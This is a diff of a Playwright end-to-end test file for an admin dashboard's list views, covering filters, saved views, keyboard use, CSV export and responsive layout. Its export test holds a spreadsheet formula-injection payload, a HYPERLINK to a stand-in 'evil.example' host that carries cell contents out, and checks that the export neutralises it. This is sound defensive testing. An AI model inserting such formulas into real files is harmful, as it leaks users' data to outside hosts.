@@ -1,10 +1,12 @@
 import { readFile } from 'node:fs/promises'
-import { expect, type Page } from '@playwright/test'
+import { expect, type Locator, type Page } from '@playwright/test'
+import { openCouponsApi } from '../src/coupons-api.ts'
 import { openPackageScreen } from '../src/package-screen.ts'
+import { readClipboard } from '../src/read-clipboard.ts'
 import { openFromMenu, sections } from '../src/sections.ts'
 import { test } from '../src/test.ts'
 
-const [, , coupons, ...others] = sections
+const [, , coupons] = sections
 
 const namesOf = (page: Page) => page.getByRole('row').getByRole('link').allTextContents()
 const searchOf = (page: Page) => page.getByRole('searchbox')
@@ -22,16 +24,18 @@ test('filter, search and sort survive a reload, and Back brings them with the sc
   await signIn(page)
   await page.setViewportSize({ width: 1280, height: 500 })
   await page.goto('/packages/')
+  await expect(page.getByRole('row').nth(1)).toBeVisible()
   await page.getByRole('radiogroup', { name: 'Status' }).getByText('Published').click()
   await page.getByRole('columnheader', { name: 'Price' }).click()
   await searchOf(page).fill('co')
   const address = '/packages/?status=published&sort=price&q=co'
   await expect(page).toHaveURL(address)
+  // The rows follow the toolbar.
+  await expect.poll(async () => (await namesOf(page)).filter((name) => !/co/i.test(name))).toEqual([])
   const names = await namesOf(page)
   expect(names.length).toBeGreaterThan(3)
   await page.reload()
-  await expect(page.getByRole('row').nth(1)).toBeVisible()
-  expect(await namesOf(page)).toEqual(names)
+  await expect.poll(() => namesOf(page)).toEqual(names)
   await expect(searchOf(page)).toHaveValue('co')
   await expect(statusOf(page, 'Published')).toBeChecked()
 
@@ -39,14 +43,14 @@ test('filter, search and sort survive a reload, and Back brings them with the sc
   for (let step = 0; step < 3; step += 1) await page.keyboard.press('ArrowDown')
   const focused = page.getByRole('row').filter({ hasText: names[3] ?? '' })
   await expect(focused).toBeFocused()
-  await page.mouse.wheel(0, 200)
-  await expect.poll(() => page.evaluate(() => scrollY)).toBeGreaterThan(50)
-  const scroll = await page.evaluate(() => scrollY)
+  const scroll = 60
+  await page.evaluate((top) => scrollTo(0, top), scroll)
+  await expect.poll(() => page.evaluate(() => scrollY)).toBe(scroll)
   if (coupons !== undefined) await openFromMenu(page, coupons)
   await page.goBack()
   await expect(page).toHaveURL(address)
   await expect(focused).toBeFocused()
-  expect(await namesOf(page)).toEqual(names)
+  await expect.poll(() => namesOf(page)).toEqual(names)
   await expect.poll(() => page.evaluate(() => scrollY)).toBe(scroll)
 })
 
@@ -67,32 +71,14 @@ test('the export holds what is shown, and what a spreadsheet would run is kept f
   const file = await download
   expect(file.suggestedFilename()).toMatch(/^packages-\d{4}-\d\d-\d\d\.csv$/)
   const [head, row, ...rest] = (await readFile(await file.path(), 'utf8')).split('\r\n')
-  expect(head).toBe('\ufeffName,Coins,Gems,Price,Per coin,Status,Updated')
-  expect(row).toMatch(/^"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""Prize""\)",10,1,1\.5,0\.15,Draft,/)
+  expect(head).toBe('\ufeffName,Coins,Gems,Price,Currency,Per coin,Status,Updated,Created,ID')
+  expect(row).toMatch(
+    /^"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""Prize""\)",10,1,1\.5,USD,0\.15,Draft,/,
+  )
   expect(rest).toEqual([''])
 })
 
-test('columns and density are chosen once and stay', async ({ page, signIn }) => {
-  await signIn(page)
-  await page.goto('/packages/')
-  const heading = (name: string) => page.getByRole('columnheader', { name, exact: true })
-  const panel = await openPanel(page)
-  const row = openPackageScreen(page).row('Family plan')
-  const height = async () => (await row.boundingBox())?.height ?? 0
-  const before = await height()
-  await panel.getByRole('checkbox', { name: 'Created' }).check()
-  await panel.getByRole('checkbox', { name: 'Gems' }).uncheck()
-  await panel.getByText('Compact').click()
-  await page.keyboard.press('Escape')
-  for (const visit of ['now', 'after a reload']) {
-    if (visit !== 'now') await page.reload()
-    await expect(heading('Created')).toBeVisible()
-    await expect(heading('Gems')).toHaveCount(0)
-    await expect.poll(height).toBeLessThan(before)
-  }
-})
-
-test('a view is kept under a name, and its link shows a colleague the same', async ({
+test('columns, density and a view under a name are chosen once and stay, and its link shows a colleague the same', async ({
   page,
   context,
   signIn,
@@ -100,17 +86,22 @@ test('a view is kept under a name, and its link shows a colleague the same', asy
   await context.grantPermissions(['clipboard-read', 'clipboard-write'])
   await signIn(page)
   await page.goto('/packages/?status=published&sort=-price')
-  await expect(page.getByRole('row').nth(1)).toBeVisible()
-  const names = await namesOf(page)
+  const readHeight = async (list: Page) => (await list.getByRole('row').nth(1).boundingBox())?.height ?? 0
+  await expect.poll(() => readHeight(page)).toBeGreaterThan(0)
+  const [names, height] = [await namesOf(page), await readHeight(page)]
   const panel = await openPanel(page)
+  await panel.getByRole('checkbox', { name: 'Created' }).check()
+  await panel.getByRole('checkbox', { name: 'Gems' }).uncheck()
+  await panel.getByText('Compact').click()
   await panel.getByLabel('Name of the view').fill('Dearest first')
   await panel.getByRole('button', { name: 'Save view' }).click()
   await panel.getByRole('button', { name: 'Copy a link to this view' }).click()
   await expect(page.getByText('Link copied')).toBeVisible()
-  const link = await page.evaluate(() => navigator.clipboard.readText())
+  const link = await readClipboard(page)
+  await page.keyboard.press('Escape')
 
-  await page.goto('/packages/')
-  await expect(statusOf(page, 'All')).toBeChecked()
+  await page.getByRole('radiogroup', { name: 'Status' }).getByText('Draft').click()
+  await expect.poll(() => namesOf(page)).not.toEqual(names)
   await (await openPanel(page)).getByRole('button', { name: 'Dearest first', exact: true }).click()
   await expect(statusOf(page, 'Published')).toBeChecked()
   // The rows follow the toolbar.
@@ -118,11 +109,17 @@ test('a view is kept under a name, and its link shows a colleague the same', asy
 
   const colleague = await context.newPage()
   await colleague.goto(link)
-  await expect(colleague.getByRole('row').nth(1)).toBeVisible()
   await expect.poll(() => namesOf(colleague)).toEqual(names)
+  const heading = (name: string) => colleague.getByRole('columnheader', { name, exact: true })
+  await expect(heading('Created')).toBeVisible()
+  await expect(heading('Gems')).toHaveCount(0)
+  await expect.poll(() => readHeight(colleague)).toBeLessThan(height)
 })
 
-test('from the search to a row and its actions without a mouse', async ({ page, signIn }) => {
+test('from the search to a row and its actions without a mouse', { tag: '@browsers' }, async ({
+  page,
+  signIn,
+}) => {
   await signIn(page)
   await page.goto('/packages/')
   await expect(page.getByRole('row').nth(1)).toBeVisible()
@@ -137,7 +134,7 @@ test('from the search to a row and its actions without a mouse', async ({ page, 
   await page.keyboard.press('x')
   await expect(page.getByText('1 package selected')).toBeVisible()
   await page.keyboard.press('.')
-  await expect(page.getByRole('menuitem', { name: 'Edit' })).toBeVisible()
+  await expect(page.getByRole('menuitem', { name: 'Edit' })).toBeFocused()
   await page.keyboard.press('Enter')
   const form = page.getByRole('dialog')
   await expect(form.getByLabel('Name')).toHaveValue(/^Gem box/)
@@ -146,22 +143,109 @@ test('from the search to a row and its actions without a mouse', async ({ page, 
   await expect(page.getByRole('row').nth(1)).toBeVisible()
 })
 
-for (const { path } of [...(coupons === undefined ? [] : [coupons]), ...others]) {
-  test(`${path} is searched, sorted and exported like every list`, async ({ page, signIn }) => {
-    await signIn(page)
-    await page.goto(path)
+test('every list is searched and exported alike', async ({ page, signIn }) => {
+  await signIn(page)
+  await page.goto('/')
+  for (const section of sections.slice(2)) {
+    await openFromMenu(page, section)
     await expect(page.getByRole('row').nth(1)).toBeVisible()
     await page.keyboard.press('/')
     await expect(searchOf(page)).toBeFocused()
     await page.keyboard.type('e')
-    await expect(page).toHaveURL(`${path}?q=e`)
-    await page.reload()
-    await expect(searchOf(page)).toHaveValue('e')
-    const panel = await openPanel(page)
-    await expect(panel.getByRole('checkbox').first()).toBeVisible()
+    await expect(page).toHaveURL(`${section.path}?q=e`)
+    await expect((await openPanel(page)).getByRole('checkbox').first()).toBeVisible()
     await page.keyboard.press('Escape')
     const download = page.waitForEvent('download')
     await page.getByRole('button', { name: 'Export as CSV' }).click()
     expect((await download).suggestedFilename()).toMatch(/\.csv$/)
+  }
+})
+
+for (const path of ['/packages/', '/coupons/', '/grammar/', '/mocks/reading/', '/mocks/listening/']) {
+  test(`on a phone ${path} begins within 260 pixels, and its filters are behind one button`, async ({
+    page,
+    signIn,
+  }) => {
+    await signIn(page)
+    await page.setViewportSize({ width: 390, height: 844 })
+    await page.goto(path)
+    const first = page.getByRole('row').nth(1)
+    await expect(first).toBeVisible()
+    await expect.poll(async () => (await first.boundingBox())?.y).toBeLessThanOrEqual(260)
+
+    const filters = page.getByRole('button', { name: 'Filters' })
+    await expect(filters).toHaveText('Filters')
+    await expect(page.getByRole('radiogroup')).toHaveCount(0)
+    await filters.click()
+    const choices = page.getByRole('group', { name: 'Filters' }).getByRole('radio')
+    await choices.first().press('ArrowRight')
+    await expect(filters).toHaveText('Filters · 1')
+    await filters.click()
+    await expect(page.getByRole('radiogroup')).toHaveCount(0)
+    await expect(filters).toHaveText('Filters · 1')
   })
+}
+
+const widths = [320, 390, 768, 1024, 1100, 1280, 1440, 2560]
+
+test('at every width a list has its rows below its headings, and nothing is out of sight', async ({
+  page,
+  signIn,
+  testConsole,
+}) => {
+  const dates = { starts_at: '2026-11-21T10:30:00Z', expires_at: '2090-11-21T10:30:00Z' }
+  const api = await openCouponsApi(testConsole)
+  await api.create({ code: 'THIRTY-TWO-LETTERS-LONG-EXACTLY1', ...dates })
+  await signIn(page)
+  for (const path of ['/packages/', '/coupons/', '/grammar/', '/mocks/reading/']) {
+    await page.goto(path)
+    await expect(page.getByRole('row').nth(1)).toBeVisible()
+    for (const width of widths) {
+      await page.setViewportSize({ width, height: 900 })
+      await expect(page.locator('[data-narrow]').first()).toHaveAttribute(
+        'data-narrow',
+        String(width <= 1100),
+      )
+      await expect
+        .poll(() => page.evaluate(readLayout), `${path} at ${width} pixels`)
+        .toEqual({ isCovered: false, isSideways: false, isNameCramped: false })
+    }
+  }
+})
+
+test('a wide toolbar is one row, and what a card says below its name is one line', async ({
+  page,
+  signIn,
+}) => {
+  await page.setViewportSize({ width: 1440, height: 900 })
+  await signIn(page)
+  await page.goto('/packages/')
+  const row = page.getByRole('row', { name: 'November double coins' })
+  await expect(row).toBeVisible()
+  const topOf = async (locator: Locator) => Math.round((await locator.boundingBox())?.y ?? Number.NaN)
+  const buttons = page.getByRole('button', { name: 'View options' })
+  await expect
+    .poll(async () => Math.abs((await topOf(buttons)) - (await topOf(searchOf(page)))))
+    .toBeLessThan(10)
+
+  await page.setViewportSize({ width: 390, height: 844 })
+  const parts = ['Archived', '1,200 coins', '0 gems'].map((text) => row.getByText(text, { exact: true }))
+  await expect.poll(async () => new Set(await Promise.all(parts.map(topOf))).size).toBe(1)
+})
+
+function readLayout() {
+  const rect = (selector: string) =>
+    document.querySelector(selector)?.getBoundingClientRect() ?? new DOMRect()
+  const [heading, row, name, table] = [
+    rect('thead'),
+    rect('tbody tr'),
+    rect('[data-narrow="true"] td:has(> a)'),
+    rect('table'),
+  ]
+  return {
+    isCovered: row.top < heading.bottom - 1,
+    isSideways: document.documentElement.scrollWidth > innerWidth,
+    // A card is its name and one figure, beside a check box and the menu of its actions.
+    isNameCramped: name.width > 0 && name.width < table.width / 3,
+  }
 }
